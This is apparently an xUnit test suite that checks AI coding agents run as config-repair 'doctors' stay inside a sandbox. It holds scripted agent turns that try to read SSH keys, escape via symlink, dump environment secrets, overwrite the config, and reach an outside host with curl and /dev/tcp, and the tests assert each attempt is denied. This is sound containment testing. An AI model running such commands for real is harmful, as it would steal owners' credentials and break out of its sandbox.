using System.Text.Json.Nodes;
using OpenClaw.Actors.Doctoring;
using OpenClaw.Host.Doctors.Agents;
using OpenClaw.Host.Doctors.ClaudeCode;
using OpenClaw.StandIns.AgentApis;
using OpenClaw.StandIns.MessagesApi;
using Shouldly;
using Xunit;

namespace OpenClaw.Host.Tests.Doctors;

/// <summary>The real Codex CLI and the real Gemini CLI as doctors, each with a scripted model behind its own protocol; and Claude Code with somebody else's model.</summary>
public sealed class OtherAgentsSpecs
{
    private const string PlantedKey = "sk-other-planted-0123456789abcdef";

    [Fact]
    public async Task Gemini_repairs_its_copy_and_the_copy_is_carried_home()
    {
        await using var bench = await Open(GeminiCli.Instance);
        await using var api = await AgentApi.Start();
        Use(bench, api);
        var folder = FolderOf(bench);
        api.Turns =
        [
            AgentTurn.Call("read_file", ("file_path", folder.WorkConfig)),
            AgentTurn.Call("replace", ("file_path", folder.WorkConfig), ("instruction", "mend the typo"), ("old_string", "loopbak"), ("new_string", "loopback")),
            AgentTurn.Call("write_file", ("file_path", folder.WorkReport), ("content", Report)),
            AgentTurn.Say("I corrected gateway.bind."),
        ];
        await Heals(bench, api, "/v1beta/models/gemini-2.5-pro");
    }

    [Fact]
    public async Task Codex_repairs_its_copy_and_the_copy_is_carried_home()
    {
        await using var bench = await Open(CodexCli.Instance);
        await using var api = await AgentApi.Start();
        Use(bench, api);
        var folder = FolderOf(bench);
        api.Turns =
        [
            AgentTurn.Call("exec_command", ("cmd", $"sed -i s/loopbak/loopback/ '{folder.WorkConfig}'")),
            AgentTurn.Call("exec_command", ("cmd", $"cat > '{folder.WorkReport}' <<'END'\n{Report}\nEND")),
            AgentTurn.Say("I corrected gateway.bind."),
        ];
        await Heals(bench, api, "/responses");
    }

    [Fact]
    public async Task Gemini_has_no_shell_and_no_file_outside_its_folder()
    {
        await using var bench = await Open(GeminiCli.Instance);
        await using var api = await AgentApi.Start();
        Use(bench, api);
        var key = Path.Combine(bench.Options.UserHome, ".ssh", "id_rsa");
        api.Turns =
        [
            AgentTurn.Call("read_file", ("file_path", key)),
            AgentTurn.Call("write_file", ("file_path", bench.Config), ("content", "{}")),
            AgentTurn.Call("run_shell_command", ("command", $"cat {key}")),
            AgentTurn.Say("I tried."),
        ];
        var doctor = bench.Doctor();

        (await doctor.Treat(bench.Case(), CancellationToken.None)).ShouldBeOfType<DoctorReply.Claims>();
        await doctor.Discharge(bench.Incident, Verdict.NotHealed, CancellationToken.None);

        Everything(api).ShouldNotContain("the owner's own key");
        File.ReadAllText(bench.Config).ShouldBe(DoctorBench.Broken);
        Offered(api).ShouldBe(["read_file", "replace", "write_file"], ignoreOrder: true);
        (await File.ReadAllTextAsync(bench.Published("emergency-recovery-report-"))).ShouldContain("3 of them refused");
    }

    [Fact]
    public async Task Codex_can_neither_read_a_secret_nor_write_outside_its_folder_nor_reach_a_network()
    {
        await using var bench = await Open(CodexCli.Instance);
        await using var api = await AgentApi.Start();
        Use(bench, api);
        await using var outside = await AgentApi.Start();
        api.Turns =
        [
            AgentTurn.Call("exec_command", ("cmd", $"cat {bench.Options.UserHome}/.ssh/id_rsa; ln -s {bench.Options.UserHome}/.ssh link; cat link/id_rsa; echo {{}} > {bench.Config}; env; cat /proc/*/environ")),
            AgentTurn.Call("exec_command", ("cmd", $"curl -s -m 5 -d x {outside.BaseUrl} && echo REACHED; echo x > /dev/tcp/127.0.0.1/{outside.BaseUrl.Port} && echo REACHED")),
            AgentTurn.Say("I tried."),
        ];
        var doctor = bench.Doctor();

        (await doctor.Treat(bench.Case(), CancellationToken.None)).ShouldBeOfType<DoctorReply.Claims>();
        await doctor.Discharge(bench.Incident, Verdict.NotHealed, CancellationToken.None);

        var told = string.Join('\n', api.Requests[^1].Body["input"]!.AsArray().Where(static i => (string?)i!["type"] == "function_call_output").Select(static i => i!["output"]!.ToString()));
        told.ShouldContain("denied", Case.Insensitive);
        told.ShouldNotContain("the owner's own key");
        told.ShouldNotContain(PlantedKey);
        told.ShouldNotContain("REACHED");
        outside.Requests.ShouldBeEmpty();
        File.ReadAllText(bench.Config).ShouldBe(DoctorBench.Broken);
    }

    [Theory]
    [InlineData("codex", 401, UnavailableKind.Auth)]
    [InlineData("codex", 429, UnavailableKind.Quota)]
    [InlineData("codex", 500, UnavailableKind.Server)]
    [InlineData("gemini", 401, UnavailableKind.Auth)]
    [InlineData("gemini", 429, UnavailableKind.Quota)]
    [InlineData("gemini", 500, UnavailableKind.Server)]
    public async Task An_API_that_refuses_is_told_by_its_kind(string agent, int status, UnavailableKind kind)
    {
        await using var bench = await Open(agent == "codex" ? CodexCli.Instance : GeminiCli.Instance);
        await using var api = await AgentApi.Start();
        Use(bench, api);
        var google = status switch { 401 => "UNAUTHENTICATED", 429 => "RESOURCE_EXHAUSTED", _ => "INTERNAL" };
        api.Refusal = (status, agent == "codex"
            ? new JsonObject { ["error"] = new JsonObject { ["message"] = "no", ["type"] = status == 429 ? "insufficient_quota" : "error", ["code"] = "x" } }.ToJsonString()
            : new JsonObject { ["error"] = new JsonObject { ["code"] = status, ["message"] = "no", ["status"] = google } }.ToJsonString());

        var reply = (await bench.Doctor().Treat(bench.Case(), CancellationToken.None)).ShouldBeOfType<DoctorReply.Unavailable>();

        reply.Kind.ShouldBe(kind, reply.Note);
        reply.Note.ShouldNotContain(PlantedKey);
        File.ReadAllText(bench.Config).ShouldBe(DoctorBench.Broken);
        await bench.NothingIsLeft();
    }

    [Fact]
    public async Task When_one_has_no_quota_the_next_treats_the_same_incident_within_the_same_time()
    {
        await using var bench = await Open(GeminiCli.Instance);
        await using var api = await AgentApi.Start();
        Use(bench, api);
        api.Refusal = (429, """{"error":{"code":429,"message":"no","status":"RESOURCE_EXHAUSTED"}}""");
        var file = bench.Case(TimeSpan.FromMinutes(8));
        var first = bench.Doctor();
        (await first.Treat(file, CancellationToken.None)).ShouldBeOfType<DoctorReply.Unavailable>().Kind.ShouldBe(UnavailableKind.Quota);
        await first.Discharge(bench.Incident, Verdict.CalledOff, CancellationToken.None);

        bench.Options = bench.Options with { Cli = ClaudeCli.Instance, Name = ClaudeCli.Instance.Name, Command = DoctorBench.ClaudeProgram, ApiKey = DoctorBench.Key, BaseUrl = bench.Api.BaseUrl, Model = null };
        bench.Api.Play(Scenario.Of(bench.Read(), bench.Repair(), bench.Report(), Turn.Say("I corrected gateway.bind.")));
        var second = bench.Doctor();
        (await second.Treat(file, CancellationToken.None)).ShouldBeOfType<DoctorReply.Claims>();
        await second.Discharge(bench.Incident, Verdict.Healed, CancellationToken.None);
        (await first.Discharge(bench.Incident, Verdict.Healed, CancellationToken.None)).ShouldNotBeEmpty();

        File.ReadAllText(bench.Config).ShouldBe(DoctorBench.Broken.Replace("loopbak", "loopback", StringComparison.Ordinal));
        Directory.GetFiles(bench.Options.MemoryFolder, "emergency-recovery-report-*").Length.ShouldBeGreaterThanOrEqualTo(1);
        await bench.NothingIsLeft();
    }

    [Fact]
    public async Task Somebody_elses_model_behind_Claude_Code_never_sees_the_owners_login()
    {
        await using var bench = await DoctorBench.Open(static b => Scenario.Of(b.Read(), b.Repair(), b.Report(), Turn.Say("I corrected gateway.bind.")));
        Directory.CreateDirectory(Path.Combine(bench.Options.UserHome, ".claude"));
        await File.WriteAllTextAsync(
            Path.Combine(bench.Options.UserHome, ".claude", ".credentials.json"),
            """{"claudeAiOauth":{"accessToken":"sk-ant-oat01-the-owners-login","refreshToken":"sk-ant-ort01-the-owners-login","expiresAt":4102444800000,"scopes":["user:inference"],"subscriptionType":"max"}}""");
        bench.Options = bench.Options with { Name = "compatible", ApiKey = "none", Model = "qwen3-coder", IsPriced = false };
        var doctor = bench.Doctor();

        (await doctor.Treat(bench.Case(), CancellationToken.None)).ShouldBeOfType<DoctorReply.Claims>();
        await doctor.Discharge(bench.Incident, Verdict.Healed, CancellationToken.None);

        bench.Api.Requests.ShouldAllBe(static r => r.Model == "qwen3-coder");
        bench.Api.Requests.SelectMany(static r => r.Headers.Values).ShouldAllBe(static value => !value.Contains("the-owners-login"));
        bench.Api.Requests[0].Headers["x-api-key"].ShouldBe("none");
        File.ReadAllText(bench.Config).ShouldContain("\"loopback\"");
    }

    private static string Report => """
        ## Symptom
        The gateway refused its config.
        ## Root cause
        A typo in gateway.bind.
        ## Solution
        Corrected it.
        ## Result
        All is well.
        ## Prevention
        Run openclaw config validate.
        """;

    private static Task<DoctorBench> Open(IAgentCli cli) => DoctorBench.OpenWith(cli);

    private static void Use(DoctorBench bench, AgentApi api) => bench.Options = bench.Options with { ApiKey = PlantedKey, BaseUrl = api.BaseUrl };

    private static IncidentFolder FolderOf(DoctorBench bench) => bench.Options.FolderIn(bench.Folder.Root);

    private static string Everything(AgentApi api) => string.Join('\n', api.Requests.Select(static r => r.Body.ToJsonString()));

    private static IEnumerable<string> Offered(AgentApi api) =>
        api.Requests[0].Body["tools"]!.AsArray().SelectMany(static t => t!["functionDeclarations"]!.AsArray()).Select(static f => (string)f!["name"]!);

    private static async Task Heals(DoctorBench bench, AgentApi api, string path)
    {
        var doctor = bench.Doctor();
        var treatment = doctor.Treat(bench.Case(), CancellationToken.None);
        var seen = new List<string>();
        while (!treatment.IsCompleted)
        {
            seen.AddRange(bench.Running());
            await Task.WhenAny(treatment, Task.Delay(100));
        }

        (await treatment).ShouldBeOfType<DoctorReply.Claims>().Note.ShouldContain("corrected");
        File.ReadAllText(bench.Config).ShouldBe(DoctorBench.Broken.Replace("loopbak", "loopback", StringComparison.Ordinal));
        await doctor.Discharge(bench.Incident, Verdict.Healed, CancellationToken.None);

        api.Requests.ShouldContain(r => r.Path.Contains(path));
        seen.ShouldNotBeEmpty();
        seen.ShouldAllBe(static line => !line.Contains(PlantedKey));
        var report = await File.ReadAllTextAsync(bench.Published("emergency-recovery-report-"));
        report.ShouldContain("A typo in gateway.bind.");
        report.ShouldContain("+  \"gateway\"");
        report.ShouldNotContain(PlantedKey);
        File.ReadAllText(bench.Config).ShouldContain("\"loopback\"");
        await bench.NothingIsLeft();
    }
}
